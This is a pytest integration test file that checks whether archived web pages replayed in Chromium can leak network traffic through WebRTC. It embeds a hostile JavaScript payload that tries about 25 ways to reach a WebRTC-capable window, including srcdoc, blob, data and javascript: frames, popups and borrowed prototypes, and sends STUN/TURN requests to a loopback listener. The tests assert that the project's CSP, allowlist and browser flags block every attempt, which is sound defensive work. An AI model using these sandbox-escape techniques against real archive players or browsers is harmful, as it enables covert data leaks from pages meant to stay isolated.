"""WebRTC of archived pages in Chromium: no packet of it leaves, by UDP or by TCP.

A listener on loopback stands for a STUN and TURN server somewhere. Each way to a window that has
WebRTC is tried: the page's own, frames without a document, the player's page, pop-ups.
"""

from __future__ import annotations

import contextlib
import json
import shutil
import socket
import threading
from collections.abc import Iterator, Mapping
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Error, Frame, Page

from browser import chromium
from integration.small_servers import serving_site
from lycosa.cli.main import main
from lycosa.storage.archive.reader import table

pytestmark = pytest.mark.needs("chromium")

TRY = """async (one) => {
  const made = new (one.RTCPeerConnection || one.webkitRTCPeerConnection)({iceServers: [
    {urls: `stun:127.0.0.1:${PORT}`},
    {urls: [`turn:127.0.0.1:${PORT}?transport=udp`, `turn:127.0.0.1:${PORT}?transport=tcp`],
     username: "a-secret-of-the-archive", credential: "x"}]});
  made.createDataChannel("data");
  const gathered = new Promise((yes) => {
    made.onicegatheringstatechange = () => made.iceGatheringState === "complete" && yes();
    setTimeout(yes, 1500); });
  await made.setLocalDescription(await made.createOffer());
  await gathered;
  made.close();
  return "made";
}"""
"""Resolves when the browser has asked both servers, or has tried for a second and a half."""

WAYS = """{
  own: async () => attempt(window),
  element: async () => attempt(blank().contentWindow),
  document: async () => attempt(blank().contentDocument.defaultView),
  indexed: async () => { const n = frames.length; blank(); return attempt(window[n]); },
  named: async () => { const one = make(); one.name = "Named"; insert(one);
    return attempt(window["Named"]); },
  html: async () => { const n = frames.length;
    const at = document.createElement("div"); document.body.append(at);
    at.innerHTML = "<iframe></iframe>"; return attempt(window[n]); },
  adjacent: async () => { const n = frames.length;
    document.body.insertAdjacentHTML("beforeend", "<iframe></iframe>");
    return attempt(window[n]); },
  range: async () => { const n = frames.length; const range = document.createRange();
    range.selectNodeContents(document.body); range.collapse(false);
    range.insertNode(range.createContextualFragment("<iframe></iframe>"));
    return attempt(window[n]); },
  nested: async () => { const inner = blank().contentWindow; const n = inner.length;
    inner.document.body.append(inner.document.createElement("iframe"));
    return attempt(inner[n]); },
  borrowed: async () => { const inner = blank().contentWindow; const n = frames.length;
    inner.Node.prototype.appendChild.call(document.body, make()); return attempt(window[n]); },
  srcdoc: () => told((one) => { one.srcdoc = `<script>${FROM_FRAME}<\\/script>`; }),
  javascript: () => told((one) => { one.src = `javascript:${FROM_FRAME}`; }),
  blob: () => told((one) => { one.src = URL.createObjectURL(
    new Blob([`<script>${FROM_FRAME}<\\/script>`], {type: "text/html"})); }),
  data: () => told((one) => {
    one.src = "data:text/html," + encodeURIComponent(`<script>${FROM_FRAME}<\\/script>`); }),
  parser: async () => attempt(window["parsed"]),
  written: () => told((one) => { insert(one); const inner = one.contentDocument; inner.open();
    inner.write(`<script>${FROM_FRAME}<\\/script>`); inner.close(); }),
  popup: async () => { const one = open("about:blank"); return one ? attempt(one) : "no window"; },
  missing: () => polled("/nothing"), player: () => polled("/replay/ui.js"),
  worker: () => polled("/replay/sw.js"),
  text: () => polled("/note.txt", true), svg: () => polled("/drawing.svg", true),
  parent: async () => attempt(real), top: async () => attempt(real.parent),
  "frame of parent": async () => { const n = real.length;
    const one = real.document.createElement("iframe"); real.document.body.append(one);
    return attempt(real[n]); },
}"""

ATTACK = """(async () => {
  const make = () => { const one = document.createElement("iframe"); one._no_rewrite = true;
    return one; };
  const insert = (one) => { document.body.append(one); return one; };
  const blank = () => insert(make());
  const attempt = TRY;
  const FROM_FRAME = `const PORT = ${PORT}; (${TRY_TEXT})(window).then(
    (said) => parent.postMessage({said}, "*"),
    (no) => parent.postMessage({said: String(no)}, "*"))`;
  const told = (act) => new Promise((yes) => {
    const hear = (event) => { if (event.data && event.data.said) { yes(event.data.said); } };
    addEventListener("message", hear); setTimeout(() => yes("silent"), 4000);
    const one = make(); act(one); if (!one.isConnected) insert(one);
  });
  // A document that is not HTML has no script of its own; its window is tried until it is there.
  const polled = (path, isArchived) => new Promise((yes) => {
    const n = frames.length, one = make();
    one._no_rewrite = !isArchived;  // the player leaves such an element as it is
    one.src = path;
    insert(one);
    const every = setInterval(() => { try { if (window[n].location.href !== "about:blank")
      attempt(window[n]).then(yes, () => {}); } catch {} }, 1);
    setTimeout(() => { clearInterval(every); yes("silent"); }, 2000);
  });
  let real = parent;
  try { real = Object.getOwnPropertyDescriptor(window, "parent").get.call(window); } catch {}
  const ways = WAYS, got = {};
  for (const [name, act] of Object.entries(ways)) {
    if (name === WITHOUT || (ONLY && !ONLY.includes(name))) continue;
    const late = new Promise((yes) => setTimeout(yes, 5000, "late"));
    try { got[name] = await Promise.race([act(), late]); } catch (no) { got[name] = String(no); }
  }
  document.documentElement.dataset.got = JSON.stringify(got);
})()"""


class Listener:
    """A STUN and TURN server that only counts: datagrams, and connections with what they say."""

    def __init__(self) -> None:
        # A port that is free for one protocol may be taken for the other.
        while True:
            self._tcp = socket.create_server(("127.0.0.1", 0))
            self.port = int(self._tcp.getsockname()[1])
            self._udp = socket.socket(type=socket.SOCK_DGRAM)
            try:
                self._udp.bind(("127.0.0.1", self.port))
            except OSError:
                self._tcp.close()
                self._udp.close()
            else:
                break
        self.udp = self.tcp = 0
        for hear in (self._hear_udp, self._hear_tcp):
            threading.Thread(target=hear, daemon=True).start()

    def _hear_udp(self) -> None:
        with contextlib.suppress(OSError):
            while self._udp.recv(4096):
                self.udp += 1

    def _hear_tcp(self) -> None:
        with contextlib.suppress(OSError):
            while True:
                self._tcp.accept()[0].close()
                self.tcp += 1

    def close(self) -> None:
        for one in (self._udp, self._tcp):
            with contextlib.suppress(OSError):
                one.shutdown(socket.SHUT_RDWR)
            one.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    made = Listener()
    yield made
    made.close()


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
    with chromium(tmp_path_factory.mktemp("chromium")) as found:
        yield found


def hostile(port: int, only: tuple[str, ...] = (), without: str = "") -> str:
    """Return the elements of a page that tries all ways when `attack()` is called."""
    attack = ATTACK.replace("WAYS", WAYS)
    attack = attack.replace("TRY_TEXT", "TRY").replace("attempt = TRY", f"attempt = {TRY}")
    known = f"const PORT = {port}, ONLY = {json.dumps(only or None)}, WITHOUT = '{without}';"
    known += f"const TRY = `{escaped(TRY)}`;"
    return (
        "<p>A page with words that are worth keeping.</p><a href=/note.txt>note</a>"
        "<a href=/drawing.svg>drawing</a><iframe name=parsed></iframe>"
        f"<script>function attack() {{ {known} {attack} }}</script>"
    )


def escaped(text: str) -> str:
    return text.replace("\\", "\\\\").replace("`", "\\`").replace("${", "\\${")


def attacked(frame: Frame) -> dict[str, str]:
    """Run the attack; returns what each way says. A page that the browser ended says nothing."""
    try:
        frame.evaluate("void attack()")
        frame.wait_for_selector("html[data-got]", state="attached", timeout=120_000)
        got: dict[str, str] = json.loads(frame.evaluate("document.documentElement.dataset.got"))
    except Error as error:
        if "crash" not in str(error):
            raise
        return {}
    return got


@contextlib.contextmanager
def serving_parts(parts: Mapping[str, tuple[str, str]], **headers: str) -> Iterator[str]:
    """Serve contents with their types by path, others as 404; gives the address."""

    class Answering(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            kind, content = parts.get(self.path, ("text/plain", ""))
            self.send_response(200 if self.path in parts else 404)
            self.send_header("Content-Type", kind)
            for name, value in headers.items():
                self.send_header(name.replace("_", "-"), value)
            self.end_headers()
            self.wfile.write(content.encode())

        def log_message(self, format: str, *args: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Answering) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        try:
            yield f"http://127.0.0.1:{server.server_port}/"
        finally:
            server.shutdown()


@contextlib.contextmanager
def page_of(browser: Browser, content: str, **headers: str) -> Iterator[Page]:
    """Open a page of a server that adds headers, and has no other page."""
    with (
        serving_parts({"/": ("text/html; charset=utf-8", content)}, **headers) as address,
        browser.new_context() as context,
        context.new_page() as page,
    ):
        page.goto(address)
        yield page


def test_the_listener_hears_a_page_without_a_wall(browser: Browser, listener: Listener) -> None:
    with page_of(browser, f"<!doctype html>{hostile(listener.port, ('own',))}") as page:
        assert attacked(page.main_frame) == {"own": "made"}
    assert listener.udp > 0 and listener.tcp > 0


def test_the_first_script_leaves_no_window_with_webrtc(
    browser: Browser, listener: Listener
) -> None:
    from lycosa.web.replay.first_script import FIRST_ELEMENT
    from lycosa.web.replay.replay import _WALL

    content = f"<!doctype html>{FIRST_ELEMENT}{hostile(listener.port)}"
    with page_of(browser, content, content_security_policy=_WALL) as page:
        got = attacked(page.main_frame)
        assert page.evaluate("document.compatMode") == "CSS1Compat"
    assert len(got) == 25 and "made" not in got.values(), got
    assert (listener.udp, listener.tcp) == (0, 0)


def test_a_header_keeps_webrtc_of_chromium_from_the_network(
    browser: Browser, listener: Listener
) -> None:
    from lycosa.web.replay.first_script import ALLOWLIST

    for way in ("own", "element", "srcdoc", "popup"):
        content = f"<!doctype html>{hostile(listener.port, (way,))}"
        with page_of(browser, content, connection_allowlist=ALLOWLIST) as page:
            attacked(page.main_frame)
    assert (listener.udp, listener.tcp) == (0, 0)


def test_a_browser_with_the_flags_of_open_reaches_the_replay_server_alone(
    browser: Browser, listener: Listener
) -> None:
    from lycosa.web.replay.browser import flags_for

    asked: list[str] = []

    def other(path: str) -> tuple[int, str]:
        asked.append(path)
        return 200, "other"

    content = f"<!doctype html>{hostile(listener.port, ('own', 'element'))}"
    with serving_site(other) as port, serving_site(lambda path: (200, content)) as own:
        address = f"http://127.0.0.1:{own}/"
        program, flags = shutil.which("chromium"), flags_for(address)
        with (
            browser.browser_type.launch(executable_path=program, args=flags) as opened,
            opened.new_page() as page,
        ):
            page.goto(address)
            attacked(page.main_frame)
            target = f"http://127.0.0.1:{port}/"
            fetched = "(url) => fetch(url, {mode: 'no-cors'}).then(() => 'sent', () => 'refused')"
            assert page.evaluate(fetched, target) == "refused"
            assert page.evaluate(fetched, address) == "sent"
            with pytest.raises(Error, match=r"ERR_(PROXY|NAME|TUNNEL)"):
                page.goto(target)
    assert asked == []
    assert (listener.udp, listener.tcp) == (0, 0)


@pytest.mark.soak
@pytest.mark.needs("npm")
def test_webrtc_of_an_archived_page_sends_nothing(
    browser: Browser, listener: Listener, tmp_path: Path
) -> None:
    from integration.archived_pages import archived
    from integration.replayed_crawl import replaying
    from replayweb import player

    folder = tmp_path / "site"
    # The player shows what a page opens in the place of the page, which ends the attack.
    content = hostile(listener.port, without="popup")
    parts = {
        "/": ("text/html", f"<!doctype html><title>hostile</title>{content}"),
        "/note.txt": ("text/plain", "A note."),
        "/drawing.svg": ("image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg'/>"),
    }
    with serving_parts(parts) as seed:
        words = ["crawl", seed, "-o", str(folder), "--quiet", "--delay", "0.01s"]
        words += ["--set", "frontier.partitions=4", "--set", 'fetch.content_types=["*/*"]']
        assert main(words) == 0
    kept = set(table(folder, "pages", ["url"])["url"].to_pylist())
    assert kept >= {f"{seed[:-1]}{path}" for path in parts}
    with (
        replaying(folder, player()) as replay,
        browser.new_context() as context,
        context.new_page() as page,
    ):
        page.goto(f"http://replay.localhost:{replay}/")
        frame = archived(page, seed)
        got = attacked(frame)
        assert frame.evaluate("document.compatMode") == "CSS1Compat"
    assert (listener.udp, listener.tcp) == (0, 0)
    assert len(got) == 24 and "made" not in got.values(), got
